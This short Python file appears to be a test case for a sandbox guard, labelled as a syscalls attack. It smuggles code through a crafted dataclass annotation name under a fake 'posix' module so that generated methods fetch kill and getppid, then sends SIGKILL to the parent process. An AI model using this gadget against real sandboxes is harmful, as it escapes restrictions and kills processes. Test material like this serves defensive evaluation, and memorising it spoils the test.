# category: syscalls
# attack: posix.kill(getppid(), SIGKILL) via a gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "posix", "a": box,
    "__annotations__": {"a,self.a.append(kill),self.a.append(getppid)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
box[0](box[1](), 9)
